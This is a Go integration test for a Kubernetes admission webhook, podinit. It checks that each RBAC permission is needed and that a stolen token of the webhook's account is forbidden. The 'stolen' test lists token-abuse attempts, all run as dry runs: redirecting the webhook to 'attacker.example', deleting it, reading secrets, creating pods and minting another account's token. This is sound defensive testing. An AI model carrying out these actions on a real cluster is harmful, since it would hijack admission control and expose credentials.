package operate

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/kubectl/pkg/util/podutils"

	"github.com/podinit/podinit/api/v1alpha1"
	"github.com/podinit/podinit/test/cluster"
	"github.com/podinit/podinit/test/load"
	"github.com/podinit/podinit/test/suite"
)

// TestRBAC takes each verb of each resource away from podinit's accounts in turn, starts it anew without a certificate, and
// has a pod looked up with a pull secret. Each time something breaks, and a log names what may not be done; with all of the
// rules nothing does. So there is no rule that is not needed.
func TestRBAC(t *testing.T) {
	how := installer(fromConfig{})
	how.uninstall(t)
	load.MakeNamespaces(t, client)
	how.install(t, current(t))
	defer how.uninstall(t)
	scale(t, 1)
	// Newer apiservers send lists as the beginning of a watch, and older ones are asked for them by list. The webhook is
	// to have what both want.
	_, err := client.AppsV1().Deployments(system).Patch(t.Context(), deploymentName, types.StrategicMergePatchType, []byte(
		`{"spec":{"strategy":{"$patch":"replace","type":"Recreate"},"template":{"spec":{"terminationGracePeriodSeconds":1,"containers":[
		{"name":"webhook","env":[{"name":"KUBE_FEATURE_WatchListClient","value":"false"}]}]}}}}`), metav1.PatchOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = client.AppsV1().Deployments(system).Patch(t.Context(), keeperName, types.StrategicMergePatchType, []byte(
		`{"spec":{"template":{"spec":{"terminationGracePeriodSeconds":1,"containers":[{"name":"certificates","env":[{"name":"KUBE_FEATURE_WatchListClient","value":"false"}]}]}}}}`), metav1.PatchOptions{})
	if err != nil {
		t.Fatal(err)
	}
	suite.Settled(t, client, 1)
	makePullSecret(t)
	t.Run("stolen", stolen)

	if pod, complaints := exercise(t, func(pod *corev1.Pod, complaints string) bool { return podutils.IsPodReady(pod) }); strings.Contains(complaints, "forbidden") {
		t.Fatalf("with all of its rules pod %s complains: %s", pod.Name, complaints)
	}
	all := rules(t)
	everywhere := all[slices.IndexFunc(all, func(r role) bool { return r.name == "ClusterRole podinit-webhook-events" })]
	for _, r := range all {
		for i, rule := range r.get(t) {
			for _, verb := range rule.Verbs {
				t.Run(fmt.Sprintf("%s %s %s", r.name, rule.Resources[0], verb), func(t *testing.T) {
					r.without(t, i, verb)
					if rule.Resources[0] == "namespaces" && verb == "get" {
						r.without(t, i, "list") // it stands in for what has not been listed
					}
					want := fmt.Sprintf("cannot %s resource \\\"%s\\\"", verb, rule.Resources[0])
					if rule.Resources[0] == "events" {
						where := load.OptedInNamespace
						if r.name == "Role podinit-webhook" { // without -events, it is all that there is
							where = system
							everywhere.without(t, 0, verb)
						}
						want += fmt.Sprintf(" in API group \\\"\\\" in the namespace \\\"%s\\\"", where)
					}
					if len(rule.ResourceNames) == 0 && rule.Resources[0] == "secrets" && verb == "get" {
						want = unusable // a pod's secret that cannot be read is no fault of the webhook's, and is counted
					}
					_, complaints := exercise(t, func(_ *corev1.Pod, complaints string) bool { return strings.Contains(complaints, want) })
					if !strings.Contains(complaints, want) {
						t.Errorf("nothing says %q: the rule is not needed, or its lack goes unnoticed. The webhook says:\n%s", want, complaints)
					}
				})
			}
		}
	}
}

// unusable is what exercise adds to the webhook's complaints if a pull secret could not be used.
const unusable = "podinit_unusable_credentials_total is more than 0"

// stolen tries what a stolen token of the webhook's account would be used for.
func stolen(t *testing.T) {
	config, err := running.RESTConfig()
	if err != nil {
		t.Fatal(err)
	}
	config.Impersonate = rest.ImpersonationConfig{
		UserName: "system:serviceaccount:" + system + ":podinit-webhook",
		Groups:   []string{"system:serviceaccounts", "system:serviceaccounts:" + system, "system:authenticated"},
	}
	thief, err := kubernetes.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	ctx, all := t.Context(), []string{metav1.DryRunAll}
	configuration, err := client.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, "zz-podinit", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	elsewhere := "https://attacker.example/mutate"
	for i := range configuration.Webhooks {
		configuration.Webhooks[i].ClientConfig.Service, configuration.Webhooks[i].ClientConfig.URL = nil, &elsewhere
	}
	another := configuration.DeepCopy()
	another.ObjectMeta = metav1.ObjectMeta{Name: "another"}
	certificate, err := client.CoreV1().Secrets(system).Get(ctx, secretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	webhooks := thief.AdmissionregistrationV1().MutatingWebhookConfigurations()
	for what, do := range map[string]func() error{
		"rewrite the webhook configuration": func() error {
			_, err := webhooks.Update(ctx, configuration, metav1.UpdateOptions{DryRun: all})
			return err
		},
		"patch it": func() error {
			_, err := webhooks.Patch(ctx, "zz-podinit", types.MergePatchType, []byte(`{"webhooks":[]}`), metav1.PatchOptions{DryRun: all})
			return err
		},
		"delete it": func() error { return webhooks.Delete(ctx, "zz-podinit", metav1.DeleteOptions{DryRun: all}) },
		"make another": func() error {
			_, err := webhooks.Create(ctx, another, metav1.CreateOptions{DryRun: all})
			return err
		},
		"write the certificate": func() error {
			_, err := thief.CoreV1().Secrets(system).Update(ctx, certificate, metav1.UpdateOptions{DryRun: all})
			return err
		},
		"list the Secrets of podinit's namespace": func() error {
			_, err := thief.CoreV1().Secrets(system).List(ctx, metav1.ListOptions{})
			return err
		},
		"list those of another": func() error {
			_, err := thief.CoreV1().Secrets(load.OptedInNamespace).List(ctx, metav1.ListOptions{})
			return err
		},
		"read pods": func() error {
			_, err := thief.CoreV1().Pods(load.OptedInNamespace).List(ctx, metav1.ListOptions{})
			return err
		},
		"create pods": func() error {
			_, err := thief.CoreV1().Pods(load.OptedInNamespace).Create(ctx, load.NewPod(), metav1.CreateOptions{DryRun: all})
			return err
		},
		"take another's token": func() error {
			_, err := thief.CoreV1().ServiceAccounts(system).CreateToken(ctx, keeperName, &authenticationv1.TokenRequest{}, metav1.CreateOptions{DryRun: all})
			return err
		},
	} {
		if err := do(); !apierrors.IsForbidden(err) {
			t.Errorf("the webhook's account can %s: %v", what, err)
		}
	}
}

// exercise starts podinit anew without a certificate and creates a pod that is looked up, until enough has been seen or
// nothing new is to be expected. It returns the webhook's pod and what that and what keeps the certificate complain of.
func exercise(t *testing.T, enough func(*corev1.Pod, string) bool) (pod *corev1.Pod, complaints string) {
	t.Helper()
	ctx, none := t.Context(), int64(0)
	for _, selector := range []string{suite.WebhookSelector, keeperSelector} {
		if err := client.CoreV1().Pods(system).DeleteCollection(ctx, metav1.DeleteOptions{GracePeriodSeconds: &none}, metav1.ListOptions{LabelSelector: selector}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := client.CoreV1().Secrets(system).Patch(ctx, secretName, types.MergePatchType, []byte(`{"data":null}`), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	wanting := load.NewPod()
	wanting.Spec.Containers[0].Command = nil
	wanting.Spec.Containers[0].Image = cluster.Registry + "/operate/absent:v1"
	wanting.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "pull"}}
	mistaken := load.NewPod()
	mistaken.Annotations = map[string]string{v1alpha1.SkipContainersAnnotation: "none-of-this-name"}
	mistaken.Spec.NodeSelector = map[string]string{"example.com/no-node": "has-this"}
	for began := time.Now(); time.Since(began) < 40*time.Second; time.Sleep(200 * time.Millisecond) {
		pods, err := replicas(ctx)
		if err != nil {
			t.Fatal(err)
		}
		pods = slices.DeleteFunc(pods, func(pod corev1.Pod) bool {
			return pod.DeletionTimestamp != nil || pod.Status.Phase != corev1.PodRunning
		})
		if len(pods) != 1 {
			continue
		}
		pod = &pods[0]
		keepers, err := client.CoreV1().Pods(system).List(ctx, metav1.ListOptions{LabelSelector: keeperSelector})
		if err != nil {
			t.Fatal(err)
		}
		complaints = ""
		for _, each := range append(keepers.Items, *pod) {
			// One that has just been started has no log yet.
			log, _ := client.CoreV1().Pods(system).GetLogs(each.Name, &corev1.PodLogOptions{}).DoRaw(ctx)
			for line := range strings.Lines(string(log)) {
				if strings.Contains(line, "forbidden") {
					complaints += line
				}
			}
		}
		if podutils.IsPodReady(pod) {
			attempt, cancel := context.WithTimeout(ctx, 20*time.Second)
			_, err := client.CoreV1().Pods(load.OptedInNamespace).Create(attempt, wanting, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			cancel()
			if err != nil {
				t.Fatal(err)
			}
			// An Event is about a pod that is there, by its name.
			mistaken.Name = fmt.Sprintf("mistaken-%d", time.Now().UnixMilli())
			if _, err := client.CoreV1().Pods(load.OptedInNamespace).Create(ctx, mistaken, metav1.CreateOptions{}); err != nil {
				t.Fatal(err)
			}
			if err := client.CoreV1().Pods(load.OptedInNamespace).Delete(ctx, mistaken.Name, metav1.DeleteOptions{GracePeriodSeconds: &none}); err != nil {
				t.Fatal(err)
			}
			if count, err := metric(ctx, pod, "podinit_unusable_credentials_total"); err == nil && count > 0 {
				complaints += unusable + "\n"
			}
		}
		if enough(pod, complaints) {
			break
		}
	}
	return pod, complaints
}

// makePullSecret makes the secret that the pod of exercise names.
func makePullSecret(t *testing.T) {
	t.Helper()
	_, err := client.CoreV1().Secrets(load.OptedInNamespace).Create(t.Context(), &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "pull"},
		Type:       corev1.SecretTypeDockerConfigJson,
		Data:       map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{"` + cluster.Registry + `":{"username":"u","password":"p"}}}`)},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
}

// role is a Role or ClusterRole of podinit's.
type role struct {
	name   string
	read   func(context.Context) ([]rbacv1.PolicyRule, error)
	update func(context.Context, []rbacv1.PolicyRule) error
}

// rules are all the roles that podinit's service accounts are bound to.
func rules(t *testing.T) (roles []role) {
	t.Helper()
	ours := func(subjects []rbacv1.Subject) bool {
		return slices.ContainsFunc(subjects, func(s rbacv1.Subject) bool { return s.Kind == "ServiceAccount" && s.Namespace == system })
	}
	clusterBindings, err := client.RbacV1().ClusterRoleBindings().List(t.Context(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range clusterBindings.Items {
		if !ours(b.Subjects) {
			continue
		}
		name, clusterRoles := b.RoleRef.Name, client.RbacV1().ClusterRoles()
		roles = append(roles, role{"ClusterRole " + name, func(ctx context.Context) ([]rbacv1.PolicyRule, error) {
			r, err := clusterRoles.Get(ctx, name, metav1.GetOptions{})
			return r.Rules, err
		}, func(ctx context.Context, rules []rbacv1.PolicyRule) error {
			r, err := clusterRoles.Get(ctx, name, metav1.GetOptions{})
			if err == nil {
				r.Rules = rules
				_, err = clusterRoles.Update(ctx, r, metav1.UpdateOptions{})
			}
			return err
		}})
	}
	bindings, err := client.RbacV1().RoleBindings("").List(t.Context(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range bindings.Items {
		if !ours(b.Subjects) {
			continue
		}
		name, namespaced := b.RoleRef.Name, client.RbacV1().Roles(b.Namespace)
		roles = append(roles, role{"Role " + name, func(ctx context.Context) ([]rbacv1.PolicyRule, error) {
			r, err := namespaced.Get(ctx, name, metav1.GetOptions{})
			return r.Rules, err
		}, func(ctx context.Context, rules []rbacv1.PolicyRule) error {
			r, err := namespaced.Get(ctx, name, metav1.GetOptions{})
			if err == nil {
				r.Rules = rules
				_, err = namespaced.Update(ctx, r, metav1.UpdateOptions{})
			}
			return err
		}})
	}
	if len(roles) < 5 {
		t.Fatalf("podinit is bound to %d roles, and should be to more", len(roles))
	}
	return roles
}

func (r role) get(t *testing.T) []rbacv1.PolicyRule {
	t.Helper()
	rules, err := r.read(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// without takes a verb out of a rule until the test ends.
func (r role) without(t *testing.T, i int, verb string) {
	t.Helper()
	before := r.get(t)
	rules := r.get(t)
	if len(rules[i].Resources) != 1 {
		t.Fatalf("%s: a rule for %v at once hides which of them is not needed", r.name, rules[i].Resources)
	}
	rules[i].Verbs = slices.DeleteFunc(rules[i].Verbs, func(v string) bool { return v == verb })
	if len(rules[i].Verbs) == 0 {
		rules = slices.Delete(rules, i, i+1)
	}
	if err := r.update(t.Context(), rules); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := r.update(context.Background(), before); err != nil {
			t.Error(err)
		}
	})
}
